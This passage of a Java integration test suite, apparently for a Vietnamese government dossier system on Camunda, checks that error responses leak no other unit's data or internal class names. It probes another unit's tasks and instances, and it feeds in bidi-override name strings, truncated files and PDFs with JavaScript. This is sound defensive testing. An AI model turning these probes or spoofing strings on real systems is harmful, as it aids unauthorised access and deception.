                    + " where datname = current_database() and pid <> pg_backend_pid()"
                    + " and state like 'idle in transaction%' and now() - state_change > interval '1 second'")) {
                // A second into the inspection a transaction opened around it is idle for longer than that; the
                // job executor's short transactions never are.
                Thread.sleep(1_100);
                try (var rows = statement.executeQuery()) {
                    rows.next();
                    return rows.getLong(1);
                }
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException(e);
            }
        }

        private boolean inspecting() throws java.io.IOException {
            try (var files = java.nio.file.Files.list(spool.path())) {
                return files.anyMatch(file -> file.getFileName().toString().startsWith("motcua-upload-"));
            }
        }

        /** Text that compresses like text (a zip bomb check would refuse a run of one letter). */
        private static String words(int length) {
            java.util.Random random = new java.util.Random(15);
            StringBuilder text = new StringBuilder(length + 16);
            while (text.length() < length) {
                int word = 2 + random.nextInt(8);
                for (int i = 0; i < word; i++) {
                    text.append((char) ('a' + random.nextInt(26)));
                }
                text.append(' ');
            }
            return text.toString();
        }
    }

    /**
     * Issue 15, item 8: the engine REST API's error bodies named other units' process instances and
     * definitions, and Java classes. Every one is now a problem body from the message bundle.
     */
    @Nested
    class EngineRestErrorBodies {

        private static final List<String> INTERNALS = List.of("java.", "org.camunda", "org.glassfish", "com.fasterxml",
                "Exception", "\tat ");

        /** What an officer of unit 1 may not learn of a dossier of unit 2: its instance, definition, code. */
        private record Foreign(String code, String taskId, String instanceId, String definitionId) {
            List<String> secrets() {
                return List.of(code, instanceId, definitionId, definitionId.split(":")[0], "household_business_registration",
                        "one_stop_dossier");
            }
        }

        private Foreign foreignDossier() {
            ResponseEntity<JsonNode> submitted = submit(OTHER_UNIT, "ONLINE", "ONLINE", householdBusiness("Trần Văn Khác"));
            assertThat(submitted.getStatusCode()).as(String.valueOf(submitted.getBody())).isEqualTo(HttpStatus.CREATED);
            String code = submitted.getBody().get("code").asText();
            String taskId = engine.taskFor(code, "reception2", "check_completeness");
            JsonNode task = as("admin").getForObject("/engine-rest/task/{id}", JsonNode.class, taskId);
            return new Foreign(code, taskId, task.get("processInstanceId").asText(), task.get("processDefinitionId").asText());
        }

        /** Logged in to Tasklist, with the CSRF token of the session the login started. */
        private CamundaWebapps tasklistOf(String user) {
            CamundaWebapps tasklist = new CamundaWebapps(http.getRootUri());
            assertThat(tasklist.logIn("tasklist", user, PASSWORD).statusCode()).isEqualTo(200);
            assertThat(tasklist.get("/camunda/api/engine/engine/").statusCode()).isEqualTo(200);
            return tasklist;
        }

        private void assertRevealsNothing(String request, int status, String body, Foreign foreign) {
            assertThat(status).as(request + " " + body).isBetween(400, 499);
            // The request names the task or the instance; the answer names nothing else.
            List<String> secrets = foreign.secrets().stream().filter(secret -> !request.contains(secret)).toList();
            assertThat(body).as(request).doesNotContain(secrets).doesNotContain(INTERNALS);
        }

        @Test
        void shouldTellAnOfficerNothingOfAnotherUnitsInstancesAndTasks() {
            Foreign foreign = foreignDossier();
            TestRestTemplate reception = as("reception");
            for (String path : List.of("/engine-rest/task/" + foreign.taskId(),
                    "/engine-rest/task/" + foreign.taskId() + "/variables",
                    "/engine-rest/task/" + foreign.taskId() + "/form-variables",
                    "/engine-rest/task/" + foreign.taskId() + "/identity-links",
                    "/engine-rest/task/" + foreign.taskId() + "/rendered-form",
                    "/engine-rest/process-instance/" + foreign.instanceId(),
                    "/engine-rest/process-instance/" + foreign.instanceId() + "/variables",
                    "/engine-rest/process-instance/" + foreign.instanceId() + "/activity-instances",
                    "/engine-rest/execution/" + foreign.instanceId() + "/localVariables",
                    "/engine-rest/history/process-instance/" + foreign.instanceId(),
                    "/engine-rest/process-definition/" + foreign.definitionId() + "/xml")) {
                ResponseEntity<String> response = reception.getForEntity(path, String.class);
                if (response.getStatusCode().is2xxSuccessful()) {
                    // The definition's XML is shared by every unit (PROCESS_DEFINITION READ): not a secret.
                    assertThat(path).endsWith("/xml");
                    continue;
                }
                assertThat(response.getHeaders().getContentType().isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                        .as(path).isTrue();
                assertRevealsNothing(path, response.getStatusCode().value(), response.getBody(), foreign);
            }
            for (String path : List.of("/engine-rest/task/" + foreign.taskId() + "/claim",
                    "/engine-rest/task/" + foreign.taskId() + "/complete",
                    "/engine-rest/task/" + foreign.taskId() + "/submit-form")) {
                Map<String, Object> body = path.endsWith("/claim") ? Map.of("userId", "reception")
                        : Map.of("variables", Map.of("receptionOutcome", Map.of("value", "ACCEPT")));
                ResponseEntity<String> response = reception.postForEntity(path, body, String.class);
                assertRevealsNothing(path, response.getStatusCode().value(), response.getBody(), foreign);
            }
            // The task is untouched.
            assertThat(as("admin").getForObject("/engine-rest/task/{id}", JsonNode.class, foreign.taskId())
                    .path("assignee").isNull()).isTrue();
        }

        @Test
        void shouldTellAnOfficerNothingThroughTheWebappsCopyOfTheApi() {
            Foreign foreign = foreignDossier();
            CamundaWebapps tasklist = tasklistOf("reception");
            String api = "/camunda/api/engine/engine/default";
            for (String path : List.of(api + "/task/" + foreign.taskId() + "/variables",
                    api + "/task/" + foreign.taskId() + "/form-variables",
                    api + "/process-instance/" + foreign.instanceId() + "/variables",
                    api + "/execution/" + foreign.instanceId() + "/localVariables")) {
                var response = tasklist.get(path);
                assertThat(response.headers().firstValue("Content-Type").orElse("")).as(path)
                        .startsWith(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
                assertRevealsNothing(path, response.statusCode(), response.body(), foreign);
            }
            var completed = tasklist.post("tasklist", api + "/task/" + foreign.taskId() + "/submit-form",
                    "{\"variables\":{\"receptionOutcome\":{\"value\":\"ACCEPT\"}}}");
            assertRevealsNothing("submit-form " + foreign.taskId(), completed.statusCode(), completed.body(), foreign);
        }

        @Test
        void shouldAnswerTheWebappsOwnRefusalsWithAProblemBody() {
            // Camunda's webapp filters refuse with sendError: Spring Boot's error page answers, as a problem.
            var anonymous = new CamundaWebapps(http.getRootUri()).get("/camunda/api/engine/engine/default/task?maxResults=1");
            assertThat(anonymous.statusCode()).isEqualTo(401);
            assertThat(anonymous.headers().firstValue("Content-Type").orElse("")).startsWith(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
            assertThat(anonymous.body()).contains("\"status\":401", "Đăng nhập để tiếp tục / Log in to continue")
                    .doesNotContain(INTERNALS);
        }

        @ParameterizedTest
        @ValueSource(strings = {"/engine-rest/task?maxResults=10&createdAfter=yesterday",
                "/engine-rest/task?maxResults=10&priority=high", "/engine-rest/process-instance?maxResults=10&sortBy=color&sortOrder=asc",
                "/engine-rest/history/process-instance?maxResults=10&startedAfter=2026-13-45"})
        void shouldNameNoInternalClassInABadQuery(String path) {
            ResponseEntity<JsonNode> response = as("reception").getForEntity(path, JsonNode.class);
            assertProblem(response, 400);
            assertThat(response.getBody().toString()).doesNotContain(INTERNALS);
            assertThat(response.getBody().get("detail").asText()).startsWith("Yêu cầu không hợp lệ / The request is invalid: ");
        }

        @ParameterizedTest
        @ValueSource(strings = {"{\"variables\": {", "{\"variables\": {\"x\": {\"value\": 1, \"valueInfo\": \"nope\"}}}",
                "{\"variables\": []}"})
        void shouldNameNoInternalClassInAnUnreadableBody(String body) {
            String code = submitted("ONLINE", "ONLINE", "Phan Văn Hỏng");
            String taskId = engine.taskFor(code, "reception", "check_completeness");
            ResponseEntity<JsonNode> response = as("admin").postForEntity("/engine-rest/task/{id}/complete", json(body),
                    JsonNode.class, taskId);
            assertProblem(response, 400);
            assertThat(response.getBody().toString()).doesNotContain(INTERNALS);
        }

        @Test
        void shouldNameNoInternalClassWhenNothingAwaitsAMessage() {
            ResponseEntity<JsonNode> response = as("admin").postForEntity("/engine-rest/message",
                    Map.of("messageName", "no_such_message_" + System.nanoTime()), JsonNode.class);
            assertProblem(response, 400);
            assertThat(response.getBody().toString()).doesNotContain(INTERNALS);
            assertThat(response.getBody().get("message").asText()).contains("no_such_message_");
        }

        @Test
        void shouldShowTheOfficerInTasklistWhichRulesOfTheFormTheValuesBreak() throws Exception {
            String code = submitted("ONLINE", "COUNTER", "Vương Thị Biểu");
            String taskId = engine.taskFor(code, "reception", "check_completeness");
            as("reception").postForEntity("/engine-rest/task/{id}/claim", Map.of("userId", "reception"), Void.class, taskId);
            CamundaWebapps tasklist = tasklistOf("reception");

            // "Incomplete" without listing what is missing, as Tasklist submits the form.
            var response = tasklist.post("tasklist", "/camunda/api/engine/engine/default/task/" + taskId + "/submit-form",
                    "{\"variables\":{\"receptionOutcome\":{\"value\":\"INCOMPLETE\",\"type\":\"String\"}}}");

            assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
            assertThat(response.headers().firstValue("Content-Type").orElse("")).startsWith(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
            JsonNode problem = new com.fasterxml.jackson.databind.ObjectMapper().readTree(response.body());
            // Tasklist shows "message": the form's own words, Vietnamese first, naming the field.
            assertThat(problem.get("message").asText()).startsWith("Giá trị chưa đúng quy định của biểu mẫu / ")
                    .contains("missingDocuments").doesNotContain(INTERNALS).doesNotContain(taskId);
            assertThat(problem.get("violations").findValuesAsText("field")).contains("missingDocuments");
            assertThat(dossier(code).get("status").asText()).isEqualTo("SUBMITTED");
        }
    }

    /** Issue 15, item 8: smaller 5xx and loose acceptance. */
    @Nested
    class LooseAcceptance {

        @Test
        void shouldShortenAThreeHundredCharacterFileName() {
            MultiValueMap<String, Object> files = new LinkedMultiValueMap<>();
            // ASCII: Tomcat refuses a part header over 512 bytes (413), which a long Vietnamese name reaches first.
            files.add("applicationForm", file("don-".repeat(74) + "xxxx.pdf", TestFiles.pdf("Giay de nghi")));
            files.add("identityPapers", file("cccd.png", TestFiles.png()));
            ResponseEntity<JsonNode> response = submit(UNIT, "ONLINE", "ONLINE", householdBusiness("Lê Văn Dài"), files);
            assertThat(response.getStatusCode()).as(String.valueOf(response.getBody())).isEqualTo(HttpStatus.CREATED);
            JsonNode documents = as("reception").getForObject("/api/dossiers/{code}/documents", JsonNode.class,
                    response.getBody().get("code").asText());
            String stored = documents.findValuesAsText("name").stream().filter(name -> name.startsWith("don-")).findFirst()
                    .orElseThrow(() -> new AssertionError(documents.toString()));
            assertThat(stored.codePointCount(0, stored.length())).isEqualTo(255);
            assertThat(stored).endsWith(".pdf");
        }

        @ParameterizedTest
        @ValueSource(strings = {"truncatedPdf", "truncatedJpeg", "pdfWithJavaScript", "pdfWithEmbeddedFile"})
        void shouldRefuseDocumentsThatAreCutOrCarryActiveContent(String kind) {
            byte[] pdf = TestFiles.pdf("Giay de nghi dang ky ho kinh doanh");
            byte[] jpeg = TestFiles.jpeg();
            Map<String, Object> files = Map.of(
                    "truncatedPdf", List.of("don.pdf", Arrays.copyOf(pdf, pdf.length - 30), "malformed"),
                    "truncatedJpeg", List.of("don.jpg", Arrays.copyOf(jpeg, jpeg.length * 2 / 3), "malformed"),
                    "pdfWithJavaScript", List.of("don.pdf", TestFiles.pdfWithJavaScript(), "activeContent"),
                    "pdfWithEmbeddedFile", List.of("don.pdf", TestFiles.pdfWithEmbeddedFile(), "activeContent"));
            List<?> file = (List<?>) files.get(kind);
            MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
            parts.add("applicationForm", file((String) file.get(0), (byte[]) file.get(1)));
            parts.add("identityPapers", file("cccd.png", TestFiles.png()));
            ResponseEntity<JsonNode> response = refused(400, () -> submit(UNIT, "ONLINE", "ONLINE",
                    householdBusiness("Lê Văn Cắt"), parts));
            assertThat(response.getBody().get("violations").findValuesAsText("code")).contains((String) file.get(2));
        }

        @ParameterizedTest
        @ValueSource(strings = {"Nguyễn\u202EnăV", "Nguyễn\u2066Văn\u2069", "Nguyễn\u200FVăn", "Nguyễn\u0085Văn"})
        void shouldRefuseBidiControlsInNames(String name) {
            ResponseEntity<JsonNode> response = refused(400, () -> submit(UNIT, "ONLINE", "ONLINE", householdBusiness(name)));
            assertThat(response.getBody().get("title").asText()).isEqualTo("Control characters");
        }

        @Test
        void shouldRefuseDuplicateJsonKeys() {
            refused(400, () -> http.postForEntity("/api/dossiers", json("{\"procedureKey\":\"" + PROCEDURE
                    + "\",\"unitCode\":\"" + UNIT + "\",\"unitCode\":\"" + OTHER_UNIT + "\",\"channel\":\"ONLINE\","
                    + "\"resultChannel\":\"ONLINE\",\"data\":{}}"), JsonNode.class));
        }

        @ParameterizedTest
        @ValueSource(strings = {"capital=1e300", "employeeCount=1.5", "employeeCount=12.0", "capital=1e20"})
        void shouldKeepTheFormFieldsNumberType(String assignment) {
            String[] field = assignment.split("=");
            Map<String, Object> data = householdBusiness("Vũ Văn Số");
            data.put(field[0], new java.math.BigDecimal(field[1]).doubleValue());
            ResponseEntity<JsonNode> response = refused(400, () -> submit(UNIT, "ONLINE", "ONLINE", data));
            assertThat(response.getBody().get("violations").findValuesAsText("field")).contains(field[0]);
        }

        @Test
        void shouldTakeCashAtTheCounterOfAUnitWithoutPayeeAccount() {
            // 000.00.01.H01 has no payee account: its lifecycle never waits for the fee.
            String code = submitted("ONLINE", "COUNTER", "Đỗ Văn Tiền");
            ResponseEntity<JsonNode> cash = as("reception").postForEntity("/api/payments/{code}/cash",
                    Map.of("amount", 100000), JsonNode.class, code);
            assertThat(cash.getStatusCode()).as(String.valueOf(cash.getBody())).isEqualTo(HttpStatus.OK);
            assertThat(cash.getBody().get("paidBy").asText()).isEqualTo("CASH");
            ResponseEntity<JsonNode> again = as("reception").postForEntity("/api/payments/{code}/cash",
                    Map.of("amount", 100000), JsonNode.class, code);
            assertProblem(again, 409);
        }

        @Test
        void shouldNameNoInternalClassInAnUnreadableMultipartBody() {
            HttpHeaders headers = new HttpHeaders();
            headers.set(HttpHeaders.CONTENT_TYPE, "multipart/form-data; boundary=xyz");
            ResponseEntity<JsonNode> response = http.postForEntity("/api/dossiers",
                    new HttpEntity<>("--xyz\r\nContent-Disposition: form-data; name=\"submission\"\r\n\r\n{", headers),
                    JsonNode.class);
            assertProblem(response, 400);
            assertThat(response.getBody().toString()).doesNotContain("org.apache", "Exception", "java.");
        }
    }
}
